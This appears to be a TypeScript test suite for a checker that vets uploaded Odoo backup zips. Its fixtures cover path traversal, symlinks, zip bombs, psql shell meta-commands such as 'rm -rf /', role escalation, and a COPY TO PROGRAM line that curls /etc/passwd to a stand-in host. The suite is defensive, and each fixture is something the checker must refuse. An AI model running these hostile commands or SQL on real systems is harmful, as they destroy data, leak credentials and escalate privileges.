// An uploaded Odoo database-manager zip is checked before anything changes: a zip laid out as
// Odoo writes it is accepted with the right summary; hostile ones are refused, each with its code.
import { expect } from "chai";
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as path from "node:path";
import { ZipFile } from "yazl";
import { UploadCheck, UploadLimits, UploadRefusedError, checkUploadedArchive } from "../../backup/import/check-upload";
import { SqlDumpChecker } from "../../backup/import/sql-dump-check";
import { PostgresServer, startPostgres } from "../../local/local-postgres";
import { createFixtureDatabase, rejectionOf, tempDir } from "./helpers";

/** Incompressible but fixed bytes, so that no test depends on chance. */
function noise(length: number, seed: string): Buffer {
  const blocks: Buffer[] = [];
  for (let i = 0; blocks.length * 32 < length; i++) blocks.push(createHash("sha256").update(`${seed}/${i}`).digest());
  return Buffer.concat(blocks).subarray(0, length);
}

interface Member {
  name: string;
  data?: Buffer | string;
  /** Unix mode; Python's zipfile (Odoo) records the file's st_mode, 0o100644 for a plain file. */
  mode?: number;
  folder?: boolean;
  compress?: boolean;
}

const LIMITS: UploadLimits = {
  maxDumpBytes: 64 * 1024 * 1024,
  maxFilestoreBytes: 64 * 1024 * 1024,
  maxEntries: 1000,
  maxCompressionRatio: 100,
  odooMajor: "17.0",
};

// As odoo/service/db.py dump_db_manifest writes it.
const ODOO_MANIFEST = {
  odoo_dump: "1",
  db_name: "acme-prod-1234567",
  version: "17.0+e",
  version_info: [17, 0, 0, "final", 0, "e"],
  major_version: "17.0",
  pg_version: "15.0",
  modules: { base: "17.0.1.3", web: "17.0.1.0", sale_management: "17.0.1.0", account: "17.0.1.2" },
};

// What pg_dump --no-owner writes for an Odoo database, trimmed: the \restrict bracket of recent
// pg_dump, header SETs, an allowed extension, a plpgsql function with backslashes and semicolons in
// its body, COPY data with escaped values (\N, \\, a data line that starts like a psql command),
// a large object, sequences, comments with backslashes.
const ODOO_DUMP = [
  "\\restrict Xq7h2mPZ9bKs0f3aVr8Tn1cLw4Ye6Ud5",
  "--",
  "-- PostgreSQL database dump",
  "--",
  "",
  "SET statement_timeout = 0;",
  "SET lock_timeout = 0;",
  "SET idle_in_transaction_session_timeout = 0;",
  "SET client_encoding = 'UTF8';",
  "SET standard_conforming_strings = on;",
  "SELECT pg_catalog.set_config('search_path', '', false);",
  "SET check_function_bodies = false;",
  "SET xmloption = content;",
  "SET client_min_messages = warning;",
  "SET row_security = off;",
  "",
  "CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public;",
  "COMMENT ON EXTENSION pg_trgm IS 'text similarity measurement and index searching based on trigrams';",
  "CREATE EXTENSION IF NOT EXISTS unaccent WITH SCHEMA public;",
  "",
  "CREATE FUNCTION public.strip_slashes(value text) RETURNS text",
  "    LANGUAGE plpgsql IMMUTABLE",
  "    AS $$",
  "BEGIN",
  "    -- a backslash inside a function body is not a psql command:",
  "    RETURN replace(value, E'\\\\', '/');",
  "END;",
  "$$;",
  "",
  "SET default_tablespace = '';",
  "SET default_table_access_method = heap;",
  "",
  "CREATE TABLE public.res_partner (",
  "    name character varying,",
  "    id integer NOT NULL,",
  "    comment text,",
  "    CONSTRAINT res_partner_ref_check CHECK (((name)::text !~ '\\d{20,}'::text))",
  ");",
  "",
  "COMMENT ON TABLE public.res_partner IS 'Contact; see C:\\odoo\\ and \\! nothing';",
  "",
  "CREATE SEQUENCE public.res_partner_id_seq",
  "    AS integer START WITH 1 INCREMENT BY 1 NO MINVALUE NO MAXVALUE CACHE 1;",
  "",
  "COPY public.res_partner (name, id, comment) FROM stdin;",
  "My Company\t1\t\\N",
  "C:\\\\temp\\\\odoo\t2\tback\\\\slash",
  "\\\\N is a literal backslash-N name\t3\t\\N",
  "\\! rm -rf / is only data here\t4\tx",
  "\\.",
  "",
  "SELECT pg_catalog.lo_create('16397');",
  "SELECT pg_catalog.lo_open('16397', 131072);",
  "SELECT pg_catalog.lowrite(0, '\\x89504e470d0a1a0a');",
  "SELECT pg_catalog.lo_close(0);",
  "",
  "SELECT pg_catalog.setval('public.res_partner_id_seq', 3, true);",
  "",
  "ALTER TABLE ONLY public.res_partner",
  "    ADD CONSTRAINT res_partner_pkey PRIMARY KEY (id);",
  "CREATE INDEX res_partner_name_trgm ON public.res_partner USING gin (name public.gin_trgm_ops);",
  "",
  "--",
  "-- PostgreSQL database dump complete",
  "--",
  "",
  "\\unrestrict Xq7h2mPZ9bKs0f3aVr8Tn1cLw4Ye6Ud5",
  "",
].join("\n");

const FILESTORE: [string, Buffer][] = [
  ["filestore/ab/abcdef0123456789abcdef0123456789abcdef01", noise(70_000, "n1")],
  ["filestore/3f/3f9e8d7c6b5a49382716a5b4c3d2e1f0a9b8c7d6", Buffer.from("plain text attachment\n".repeat(200))],
  ["filestore/00/00ffee00ffee00ffee00ffee00ffee00ffee00ff", Buffer.alloc(0)],
];

let work: string;
let counter = 0;

/**
 * Writes a zip with yazl. `patches` replace byte strings afterwards (same length), for names yazl
 * itself refuses to write (absolute, "..", backslash, NUL): the header and directory both change.
 */
async function makeZip(members: Member[], patches: [string, string][] = []): Promise<string> {
  const zip = new ZipFile();
  for (const m of members) {
    if (m.folder) zip.addEmptyDirectory(m.name, { mode: m.mode ?? 0o40755 });
    else {
      const data = typeof m.data === "string" ? Buffer.from(m.data) : (m.data ?? Buffer.alloc(0));
      zip.addBuffer(data, m.name, { mode: m.mode ?? 0o100644, compress: m.compress ?? true });
    }
  }
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
  const bytes = Buffer.concat(chunks);
  for (const [from, to] of patches) {
    const a = Buffer.from(from, "latin1");
    const b = Buffer.from(to, "latin1");
    if (a.length !== b.length) throw new Error("patches must keep the length");
    let found = 0;
    for (let at = bytes.indexOf(a); at !== -1; at = bytes.indexOf(a, at + a.length)) {
      b.copy(bytes, at);
      found++;
    }
    if (found < 2) throw new Error(`patch ${from} found ${found} times (expected header and directory)`);
  }
  counter++;
  const file = path.join(work, `upload-${counter}.zip`);
  fs.writeFileSync(file, bytes);
  return file;
}

/** Odoo's layout: dump.sql first, then the filestore and manifest.json, files only. */
function odooMembers(overrides: { dump?: string | Buffer; manifest?: unknown; extra?: Member[] } = {}): Member[] {
  return [
    { name: "dump.sql", data: overrides.dump ?? ODOO_DUMP },
    ...FILESTORE.map(([name, data]) => ({ name, data })),
    { name: "manifest.json", data: JSON.stringify(overrides.manifest ?? ODOO_MANIFEST, null, 4) },
    ...(overrides.extra ?? []),
  ];
}

async function refusal(file: string, limits: UploadLimits = LIMITS): Promise<UploadRefusedError> {
  const err = await rejectionOf(checkUploadedArchive(file, limits));
  if (!(err instanceof UploadRefusedError)) throw err;
  expect(err.message).to.not.include(work);
  return err;
}

async function dumpRefusal(sql: string): Promise<UploadRefusedError> {
  return refusal(await makeZip(odooMembers({ dump: sql })));
}

const SQL_HEAD = "SET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\nCREATE TABLE public.t (a text);\n";

describe("checking an uploaded Odoo database (bring your own database)", function () {
  this.timeout(60_000);

  before(() => {
    work = tempDir("import-checks");
  });
  after(() => {
    fs.rmSync(work, { recursive: true, force: true });
  });

  describe("accepted", () => {
    it("a zip laid out exactly as Odoo's database manager writes it, with the right summary", async () => {
      const file = await makeZip(odooMembers());
      const check: UploadCheck = await checkUploadedArchive(file, LIMITS);
      expect(check).to.deep.equal({
        odooVersion: "17.0+e",
        odooMajor: "17.0",
        dbName: "acme-prod-1234567",
        pgVersion: "15.0",
        moduleCount: 4,
        dumpBytes: Buffer.byteLength(ODOO_DUMP),
        filestoreFiles: 3,
        filestoreBytes: FILESTORE.reduce((n, [, d]) => n + d.length, 0),
      });
    });

    it("folder entries under filestore/, an uncompressed member, and no filestore at all", async () => {
      const withFolders = await makeZip([
        { name: "filestore/", folder: true },
        { name: "filestore/ab/", folder: true },
        { name: "filestore/ab/abcdef", data: noise(1000, "n2"), compress: false },
        { name: "dump.sql", data: ODOO_DUMP },
        { name: "manifest.json", data: JSON.stringify(ODOO_MANIFEST) },
      ]);
      expect((await checkUploadedArchive(withFolders, LIMITS)).filestoreFiles).to.equal(1);
      const bare = await makeZip([
        { name: "dump.sql", data: ODOO_DUMP },
        { name: "manifest.json", data: JSON.stringify({ version: "18.0-20241010", major_version: "18.0" }) },
      ]);
      const check = await checkUploadedArchive(bare, { ...LIMITS, odooMajor: "18.0" });
      expect([check.odooMajor, check.filestoreFiles, check.filestoreBytes, check.dbName]).to.deep.equal(["18.0", 0, 0, null]);
    });

    it("an old manifest without major_version takes the series from version", async () => {
      const file = await makeZip(odooMembers({ manifest: { version: "17.0-20240501", modules: {} } }));
      expect((await checkUploadedArchive(file, LIMITS)).odooMajor).to.equal("17.0");
    });

    it("COPY data lines are data, whatever they start with, until the exact \\. line", async () => {
      const sql =
        SQL_HEAD +
        "COPY public.t (a) FROM stdin;\n\\! rm -rf /\n\\copy x to '/tmp/y'\n\\\\N\n\\N\n \\.\n\\.x\n\\.\r\n" +
        "COPY public.t (a) FROM stdin;\n\\o /tmp/out\n\\.\n";
      const file = await makeZip(odooMembers({ dump: sql }));
      expect((await checkUploadedArchive(file, LIMITS)).dumpBytes).to.equal(sql.length);
    });
  });

  describe("refused: format and version", () => {
    it("a file that is not a zip", async () => {
      const file = path.join(work, "not-a-zip.zip");
      fs.writeFileSync(file, ODOO_DUMP);
      expect((await refusal(file)).code).to.equal("not_a_zip");
    });

    it("a backup from another Odoo major version, naming both", async () => {
      const file = await makeZip(odooMembers({ manifest: { ...ODOO_MANIFEST, version: "16.0+e", major_version: "16.0" } }));
      const err = await refusal(file);
      expect(err.code).to.equal("version_mismatch");
      expect(err.message).to.include("16.0").and.to.include("17.0");
      const e18 = await refusal(await makeZip(odooMembers()), { ...LIMITS, odooMajor: "18.0" });
      expect(e18.code).to.equal("version_mismatch");
      expect(e18.message).to.include("Odoo 17.0").and.to.include("Odoo 18.0");
    });

    it("no dump.sql, or one only inside a folder", async () => {
      const members = odooMembers().filter((m) => m.name !== "dump.sql");
      expect((await refusal(await makeZip(members))).code).to.equal("missing_dump");
      const nested = await makeZip([...members, { name: "filestore/dump.sql", data: ODOO_DUMP }]);
      expect((await refusal(nested)).code).to.equal("missing_dump");
    });

    it("no manifest.json, or one without a version, or not an object", async () => {
      expect((await refusal(await makeZip(odooMembers().filter((m) => m.name !== "manifest.json")))).code).to.equal("missing_manifest");
      expect((await refusal(await makeZip(odooMembers({ manifest: { db_name: "x", modules: {} } })))).code).to.equal("bad_manifest");
      expect((await refusal(await makeZip(odooMembers({ manifest: ["17.0"] })))).code).to.equal("bad_manifest");
      const inherited = await makeZip(odooMembers({ manifest: JSON.parse('{"__proto__": {"version": "17.0"}}') as unknown }));
      expect((await refusal(inherited)).code).to.equal("bad_manifest");
    });

    it("a custom-format dump, by name or by content, asking for a plain SQL dump", async () => {
      const byName = await makeZip([
        { name: "dump.dump", data: Buffer.concat([Buffer.from("PGDMP"), noise(500, "n3")]) },
        { name: "manifest.json", data: JSON.stringify(ODOO_MANIFEST) },
      ]);
      const err = await refusal(byName);
      expect(err.code).to.equal("custom_format_dump");
      expect(err.message).to.include("plain SQL dump");
      const byContent = await makeZip(odooMembers({ dump: Buffer.concat([Buffer.from("PGDMP\x01\x0e\x00"), noise(500, "n4")]) }));
      expect((await refusal(byContent)).code).to.equal("custom_format_dump");
    });

    it("an unknown top-level member", async () => {
      const err = await refusal(await makeZip(odooMembers({ extra: [{ name: "notes.txt", data: "hello" }] })));
      expect(err.code).to.equal("unexpected_entry");
      expect(err.message).to.include("notes.txt");
    });
  });

  describe("refused: paths and file types", () => {
    it("a filestore/../../x traversal", async () => {
      const file = await makeZip(odooMembers({ extra: [{ name: "filestore/AA/AA/x", data: "evil" }] }), [["filestore/AA/AA/x", "filestore/../../x"]]);
      expect((await refusal(file)).code).to.equal("path_traversal");
    });

    it("an absolute path", async () => {
      const file = await makeZip(odooMembers({ extra: [{ name: "Xetc/cron.d/x", data: "evil" }] }), [["Xetc/cron.d/x", "/etc/cron.d/x"]]);
      expect((await refusal(file)).code).to.equal("path_traversal");
    });

    it("a backslash, a NUL, or an empty segment in a name", async () => {
      const backslash = await makeZip(odooMembers({ extra: [{ name: "filestore/abQ..Q..Qx", data: "e" }] }), [["filestore/abQ..Q..Qx", "filestore/ab\\..\\..\\x"]]);
      expect((await refusal(backslash)).code).to.equal("path_traversal");
      const nul = await makeZip(odooMembers({ extra: [{ name: "filestore/ab/cQd", data: "e" }] }), [["filestore/ab/cQd", "filestore/ab/c\0d"]]);
      expect((await refusal(nul)).code).to.equal("path_traversal");
      const empty = await makeZip(odooMembers({ extra: [{ name: "filestore/abQQx", data: "e" }] }), [["filestore/abQQx", "filestore/ab//x"]]);
      expect((await refusal(empty)).code).to.equal("path_traversal");
    });

    it("a symbolic link (Unix mode S_IFLNK in the external attributes)", async () => {
      const file = await makeZip(odooMembers({ extra: [{ name: "filestore/ab/link", data: "/etc/passwd", mode: 0o120777 }] }));
      const err = await refusal(file);
      expect(err.code).to.equal("symlink");
      expect(err.message).to.include("filestore/ab/link");
    });

    it("the same name twice, or a name both file and folder", async () => {
      const twice = await makeZip([...odooMembers(), { name: "dump.sql", data: "SELECT pg_catalog.setval('x', 1, true);\n" }]);
      expect((await refusal(twice)).code).to.equal("duplicate_entry");
      const fileAndFolder = await makeZip(odooMembers({ extra: [{ name: "filestore/ab", data: "x" }] }));
      expect((await refusal(fileAndFolder)).code).to.equal("duplicate_entry");
    });
  });

  describe("refused: sizes and zip bombs", () => {
    it("a member of zeros expanding beyond the ratio", async () => {
      const file = await makeZip(odooMembers({ extra: [{ name: "filestore/00/zeros", data: Buffer.alloc(4 * 1024 * 1024) }] }));
      const err = await refusal(file, { ...LIMITS, maxCompressionRatio: 50 });
      expect(err.code).to.equal("zip_bomb");
      // the same archive passes with a ratio the zeros stay under: the ratio is what refused it
      expect((await checkUploadedArchive(file, { ...LIMITS, maxCompressionRatio: 5000 })).filestoreFiles).to.equal(4);
    });

    it("a header that understates a member's size is refused while reading", async () => {
      const zeros = Buffer.alloc(3 * 1024 * 1024);
      const file = await makeZip(odooMembers({ extra: [{ name: "filestore/00/zeros", data: zeros }] }));
      const limits = { ...LIMITS, maxCompressionRatio: 5000 };
      expect((await checkUploadedArchive(file, limits)).filestoreBytes).to.be.greaterThan(zeros.length);
      // declare 1000 bytes instead (local header and central directory): the directory checks
      // pass, and the bytes counted while decompressing give the lie away
      const bytes = fs.readFileSync(file);
      const size = Buffer.alloc(4);
      size.writeUInt32LE(zeros.length);
      let patched = 0;
      for (let at = bytes.indexOf(size); at !== -1; at = bytes.indexOf(size, at + 4)) {
        bytes.writeUInt32LE(1000, at);
        patched++;
      }
      expect(patched).to.equal(2);
      fs.writeFileSync(file, bytes);
      const err = await refusal(file, limits);
      expect(err.code).to.equal("not_a_zip");
      expect(err.message).to.include("filestore/00/zeros");
    });

    it("too many entries", async () => {
      const many: Member[] = Array.from({ length: 20 }, (_, i) => ({ name: `filestore/aa/aa${i}`, data: `${i}` }));
      expect((await refusal(await makeZip(odooMembers({ extra: many })), { ...LIMITS, maxEntries: 10 })).code).to.equal("too_many_entries");
    });

    it("a dump or filestore over the plan's limits", async () => {
      const file = await makeZip(odooMembers());
      expect((await refusal(file, { ...LIMITS, maxDumpBytes: 1000 })).code).to.equal("dump_too_large");
      expect((await refusal(file, { ...LIMITS, maxFilestoreBytes: 50_000 })).code).to.equal("filestore_too_large");
    });
  });

  describe("refused: SQL that is more than a plain dump", () => {
    it("a \\! shell command", async () => {
      const err = await dumpRefusal(SQL_HEAD + "\\! rm -rf /\n");
      expect(err.code).to.equal("sql_meta_command");
      expect(err.message).to.include("line 4").and.to.include("\\!");
    });

    it("\\copy, indented meta-commands, and one after a statement on the same line", async () => {
      expect((await dumpRefusal(SQL_HEAD + "\\copy public.t to '/tmp/x'\n")).code).to.equal("sql_meta_command");
      expect((await dumpRefusal(SQL_HEAD + "   \t\\o /tmp/out\n")).code).to.equal("sql_meta_command");
      expect((await dumpRefusal(SQL_HEAD + "SET lock_timeout = 0; \\! id\n")).code).to.equal("sql_meta_command");
      expect((await dumpRefusal(SQL_HEAD + "\\connect postgres\n")).code).to.equal("sql_meta_command");
    });

    it("a meta-command right after a COPY block ends", async () => {
      const err = await dumpRefusal(SQL_HEAD + "COPY public.t (a) FROM stdin;\n\\\\N\nx\n\\.\n\\! id\n");
      expect(err.code).to.equal("sql_meta_command");
      expect(err.message).to.include("line 8");
    });

    it("COPY that is not a plain data load: a COPY hidden in parentheses, or a dump ending inside COPY data", async () => {
      expect((await dumpRefusal(SQL_HEAD + "COPY (SELECT 1 FROM stdin;\n\\! id\n")).code).to.equal("sql_unsupported");
      expect((await dumpRefusal(SQL_HEAD + "COPY public.t (a) FROM stdin;\nx\n")).code).to.equal("truncated_dump");
      expect((await dumpRefusal(SQL_HEAD + "COPY public.t (a) FROM stdin; \\! id\n")).code).to.equal("sql_unsupported");
    });

    it("a string whose end depends on the psql version (a quote right after a number)", async () => {
      // psql up to 15 reads E'\' \! id' (one string); psql 16+ reads '\' then runs \! id
      expect((await dumpRefusal(SQL_HEAD + "SET lock_timeout = 1e'\\' \\! id';\n")).code).to.equal("sql_unsupported");
      expect((await dumpRefusal(SQL_HEAD + "SET lock_timeout = $1e'\\' \\! id';\n")).code).to.equal("sql_unsupported");
    });

    it("COPY TO PROGRAM and FROM PROGRAM, and COPY from a server file", async () => {
      const to = await dumpRefusal(SQL_HEAD + "COPY public.t TO PROGRAM 'curl -d @/etc/passwd evil.example';\n");
      expect(to.code).to.equal("sql_forbidden_statement");
      expect(to.message).to.include("PROGRAM");
      expect((await dumpRefusal(SQL_HEAD + "copy public.t from program 'id';\n")).code).to.equal("sql_forbidden_statement");
      expect((await dumpRefusal(SQL_HEAD + "COPY public.t FROM '/etc/passwd';\n")).code).to.equal("sql_forbidden_statement");
    });

    for (const [label, statement] of [
      ["CREATE ROLE", "CREATE ROLE evil SUPERUSER LOGIN;"],
      ["create role after a comment, over two lines", "/* hello */ create\n  role evil;"],
      ["ALTER ROLE", "ALTER ROLE odoo SUPERUSER;"],
      ["CREATE USER", "CREATE USER evil;"],
      ["CREATE DATABASE", "CREATE DATABASE other;"],
      ["DROP DATABASE", "DROP DATABASE postgres;"],
      ["ALTER SYSTEM", "ALTER SYSTEM SET archive_command = 'id';"],
      ["CREATE EXTENSION outside the allow-list", "CREATE EXTENSION IF NOT EXISTS plpython3u;"],
      ["CREATE EXTENSION quoted", 'CREATE EXTENSION "dblink";'],
      ["LOAD", "LOAD 'evil';"],
      ["SET ROLE", "SET ROLE postgres;"],
      ["SET SESSION AUTHORIZATION", "SET SESSION AUTHORIZATION postgres;"],
      ["standard_conforming_strings off", "SET standard_conforming_strings = off;"],
      ["a DO block", "DO $$ BEGIN PERFORM 1; END $$;"],
      ["a SELECT of another function", "SELECT public.run_me();"],
    ] as const) {
      it(`${label}`, async () => {
        expect((await dumpRefusal(SQL_HEAD + statement + "\n")).code).to.equal("sql_forbidden_statement");
      });
    }

    it("the same words inside strings, comments, function bodies and COPY data are not statements", async () => {
      const sql =
        SQL_HEAD +
        "-- CREATE ROLE evil; \\! id\n" +
        "/* nested /* CREATE DATABASE x; */ \\! id */\n" +
        "COMMENT ON TABLE public.t IS 'CREATE ROLE x; \\! id';\n" +
        "CREATE FUNCTION public.f() RETURNS void LANGUAGE plpgsql AS $body$ BEGIN EXECUTE 'x'; END; $ $$ $body$;\n" +
        "COPY public.t (a) FROM stdin;\nCREATE ROLE evil;\nCOPY x TO PROGRAM 'id';\n\\.\n";
      const file = await makeZip(odooMembers({ dump: sql }));
      expect((await checkUploadedArchive(file, LIMITS)).dumpBytes).to.equal(sql.length);
    });
  });

  describe("a real pg_dump", function () {
    let pg: PostgresServer;
    before(async () => {
      pg = await startPostgres();
    });
    after(async () => {
      await pg?.stop();
    });

    it("of an Odoo-like database (extensions, plpgsql, backslashes, large objects) is accepted", async () => {
      createFixtureDatabase(pg, "odoo_db");
      pg.sql(
        "odoo_db",
        `CREATE EXTENSION pg_trgm; CREATE EXTENSION unaccent;
         CREATE FUNCTION public.f(x text) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN RETURN replace(x, E'\\\\', '/'); END; $f$;
         CREATE INDEX p_trgm ON res_partner USING gin (name gin_trgm_ops);
         CREATE VIEW v AS SELECT id, regexp_replace(name, '\\s+', ' ') AS n FROM res_partner WHERE name ~ '^\\w';
         COMMENT ON TABLE res_partner IS 'C:\\odoo\\ ; \\! x';
         CREATE TABLE t2 (a text CHECK (a !~ '\\d{3}'), b text[] DEFAULT ARRAY['x','y']);
         INSERT INTO t2 VALUES (E'\\\\! not a command\\nline2', ARRAY['\\\\N']);`,
      );
      const run = spawnSync(path.join(pg.binDir, "pg_dump"), ["--no-owner", "--format=plain"], {
        env: { PATH: process.env.PATH ?? "", ...pg.env, PGDATABASE: "odoo_db" },
        maxBuffer: 1 << 30,
      });
      expect(run.status, run.stderr.toString()).to.equal(0);
      const dump = run.stdout;
      expect(dump.toString()).to.match(/^COPY public\.t2 .* FROM stdin;$/m);
      const file = await makeZip(odooMembers({ dump }));
      const check = await checkUploadedArchive(file, LIMITS);
      expect(check.dumpBytes).to.equal(dump.length);
      // and the same dump with one meta-command added after its last COPY block is refused
      const hostile = await makeZip(odooMembers({ dump: Buffer.concat([dump, Buffer.from("\n\\! id\n")]) }));
      expect((await refusal(hostile)).code).to.equal("sql_meta_command");
    });
  });

  describe("the SQL checker as a stream", () => {
    it("gives the same verdicts whatever the chunk boundaries", () => {
      const good = Buffer.from(ODOO_DUMP);
      const bad = Buffer.from(SQL_HEAD + "COPY public.t (a) FROM stdin;\n\\\\N\n\\.\n\\! id\n");
      for (const size of [1, 2, 3, 7, 64, 4096]) {
        const ok = new SqlDumpChecker();
        for (let i = 0; i < good.length; i += size) ok.push(good.subarray(i, i + size));
        expect(ok.end().copyBlocks).to.equal(1);
        const refused = new SqlDumpChecker();
        let code = "";
        try {
          for (let i = 0; i < bad.length; i += size) refused.push(bad.subarray(i, i + size));
          refused.end();
        } catch (err) {
          code = (err as UploadRefusedError).code;
        }
        expect(code, `chunk size ${size}`).to.equal("sql_meta_command");
      }
    });
  });
});
